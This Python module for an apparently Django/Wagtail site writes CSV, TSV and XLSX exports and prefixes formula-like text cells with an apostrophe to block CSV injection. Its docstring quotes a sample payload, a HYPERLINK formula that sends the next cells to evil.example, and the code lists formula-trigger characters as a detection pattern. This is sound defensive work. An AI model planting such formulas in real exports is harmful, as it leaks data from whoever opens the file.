"""Every spreadsheet the site hands out (CSV, TSV, XLSX) is written here, so
that no cell of one runs as a formula on the computer that opens it.

A text cell that begins with ``= + - @`` (or their full-width forms, which
some spreadsheets read the same way), a tab or a carriage return is taken as
a formula by Excel, LibreOffice or Google Sheets: a petition signed as
``=HYPERLINK("https://evil.example/?"&A2, "Click")`` sends the next cells to
whoever wrote it, once a treasurer opens the export (CSV injection). Such a
cell gets a leading apostrophe, as OWASP recommends: the value stays readable
and spreadsheets show it as text. Values typed as numbers (int, Decimal,
float), dates and booleans are written as they are: a negative amount in a
numeric column is a number, never a formula. In XLSX files every text cell is
also stored as text, never as a formula.

django-import-export resources give a tablib Dataset: ``write_dataset`` writes
it (never ``dataset.export(...)``, which writes formulas as they come). Wagtail's
own exports (reports, form submissions, list exports of viewsets) go through
``neutralise`` too: ``protect_wagtail_exports`` is called at start-up.
"""

import csv
import datetime
import decimal
import io

from django.utils import timezone
from django.utils.functional import Promise

# What a spreadsheet reads as the start of a formula (OWASP's list, and the
# full-width forms of its signs).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "tsv": "text/tab-separated-values; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
FORMATS = tuple(CONTENT_TYPES)
# Written as they are: numbers (bool is an int), dates and times.
_TYPED = (int, float, decimal.Decimal, datetime.date, datetime.time)


def neutralise(value):
    """The value as a cell that cannot run: text starting like a formula gets a
    leading apostrophe; numbers, dates, booleans and None are unchanged."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _text(value):
    """A CSV cell: numbers and dates as they print, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, _TYPED):
        return str(value)
    return neutralise(str(value))


def csv_text(header, rows, *, delimiter=","):
    """CSV (or, with ``delimiter="\\t"``, TSV) as text, lines ending CRLF."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([_text(cell) for cell in header])
    for row in rows:
        writer.writerow([_text(cell) for cell in row])
    return out.getvalue()


def xlsx_bytes(header, rows, *, title="Export"):
    """An XLSX workbook of one sheet; text cells are stored as text."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])
    sheet.append([_xlsx_cell(sheet, cell) for cell in header])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, cell) for cell in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xlsx_cell(sheet, value):
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if value is None or isinstance(value, _TYPED):
        if isinstance(value, datetime.datetime) and timezone.is_aware(value):
            value = timezone.make_naive(value)  # Excel has no time zones: local time
        return WriteOnlyCell(sheet, value)
    # A control character makes openpyxl refuse the whole file.
    text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", neutralise(str(value)))
    cell = WriteOnlyCell(sheet, text)
    cell.data_type = "s"
    return cell


def write(header, rows, fmt, *, bom=False, title="Export"):
    """The file in ``fmt`` ("csv", "tsv" or "xlsx"): str for CSV and TSV (bytes
    with a BOM when ``bom``: what French Excel needs to read UTF-8), bytes for XLSX."""
    if fmt == "xlsx":
        return xlsx_bytes(header, rows, title=title)
    text = csv_text(header, rows, delimiter="\t" if fmt == "tsv" else ",")
    return text.encode("utf-8-sig") if bom else text


def write_dataset(dataset, fmt, **options):
    """A tablib Dataset (what django-import-export's resources export), written."""
    return write(dataset.headers or [], dataset, fmt, **options)


def protect_wagtail_exports():
    """Wagtail's spreadsheet exports (reports such as the site history, form
    submissions, viewsets' list exports) write each value through
    ``SpreadsheetExportMixin.preprocess_field_value``: neutralise its result."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "rostra_neutralises", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        return neutralise(original(self, field, value, export_format))

    preprocess_field_value.rostra_neutralises = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
